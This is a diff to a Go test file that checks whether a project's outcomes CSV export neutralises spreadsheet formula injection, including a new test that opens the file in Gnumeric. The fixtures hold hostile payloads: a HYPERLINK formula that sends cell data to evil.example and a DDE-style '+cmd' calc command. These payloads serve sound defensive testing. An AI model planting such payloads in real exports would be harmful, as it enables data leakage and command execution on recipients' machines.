@@ -7,6 +7,9 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -15,6 +18,7 @@ import (
 
 	"github.com/google/uuid"
 
+	"github.com/infuse-cymru/journeys/internal/testdeps"
 	"github.com/infuse-cymru/journeys/store"
 )
 
@@ -226,11 +230,16 @@ const formulaStart = "=+-@\t\r"
 // cell of recorded text that a spreadsheet would take for a formula is
 // written with a leading apostrophe, which spreadsheets read as "text"
 // and do not show, and every other cell as it was recorded.
-func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
+// hostileOutcomes is an intake whose name, and whose participants' local
+// authorities and themes, a spreadsheet would run as formulas if written
+// raw: the outcomes file's rows, and the text recorded for each journey
+// (intake name, local authority, theme).
+func hostileOutcomes(t *testing.T) (rows [][]string, csvFile []byte, recorded map[string][3]string) {
+	t.Helper()
 	s := storeOnly(t)
 	name := `=HYPERLINK("http://evil.example/?"&A1,"Cohort 1")`
 	c := newCohort(t, s, name)
-	recorded := map[string][2]string{} // journey → local authority, theme
+	recorded = map[string][3]string{}
 	for i, cell := range [][2]string{
 		{"+cmd|' /C calc'!A0", "@SUM(1+1)"},
 		{"-2+3", "=1+1"},
@@ -239,15 +248,19 @@ func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
 	} {
 		j := uuid.New()
 		c.record(t, j, c.participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
-		recorded[j.String()] = cell
+		recorded[j.String()] = [3]string{name, cell[0], cell[1]}
 	}
 	rows, b := outcomesCSV(t, s, c.intake.ID)
 	if len(rows) != 1+len(recorded) {
 		t.Fatalf("want a header and %d rows:\n%s", len(recorded), b.String())
 	}
+	return rows, b.Bytes(), recorded
+}
+
+func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
+	rows, _, recorded := hostileOutcomes(t)
 	for _, row := range rows[1:] {
-		want := recorded[row[0]]
-		for i, w := range []string{name, want[0], want[1]} {
+		for i, w := range recorded[row[0]] {
 			cell := row[2+i]
 			if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
 				t.Errorf("column %s of journey %s is %q: a spreadsheet runs it as a formula", rows[0][2+i], row[0], cell)
@@ -258,6 +271,46 @@ func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
 			}
 			if shown != w {
 				t.Errorf("column %s of journey %s reads %q as text, want %q", rows[0][2+i], row[0], shown, w)
+			}
+		}
+	}
+}
+
+// TestOutcomesCSVInASpreadsheet: a real spreadsheet (Gnumeric, which
+// scripts/test installs) opens the funders' file and shows each cell as
+// the text recorded, running nothing: written raw, =1+1 would show 2 and
+// the HYPERLINK its label.
+func TestOutcomesCSVInASpreadsheet(t *testing.T) {
+	ssconvert := testdeps.Command(t, "ssconvert", "apt-get install -y --no-install-recommends gnumeric")
+	rows, file, recorded := hostileOutcomes(t)
+	dir := t.TempDir()
+	in, out := filepath.Join(dir, "outcomes.csv"), filepath.Join(dir, "as-shown.csv")
+	if err := os.WriteFile(in, file, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	// Comma-separated, as a spreadsheet opens a .csv (its guessing importer
+	// would split at apostrophes).
+	cmd := exec.Command(ssconvert, "--import-type=Gnumeric_stf:stf_csvtab", "--export-type=Gnumeric_stf:stf_csv", in, out)
+	cmd.Env = append(os.Environ(), "HOME="+dir) // Gnumeric keeps settings there
+	if msg, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("ssconvert: %v\n%s", err, msg)
+	}
+	b, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	shown, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil || len(shown) != len(rows) {
+		t.Fatalf("Gnumeric's reading of the file: %v, %d rows, want %d\n%s", err, len(shown), len(rows), b)
+	}
+	for _, row := range shown[1:] {
+		want, ok := recorded[row[0]]
+		if !ok {
+			t.Fatalf("Gnumeric shows a journey %q that is not in the file\n%s", row[0], b)
+		}
+		for i, w := range want {
+			if row[2+i] != w {
+				t.Errorf("a spreadsheet shows column %s of journey %s as %q, want the text %q", shown[0][2+i], row[0], row[2+i], w)
 			}
 		}
 	}
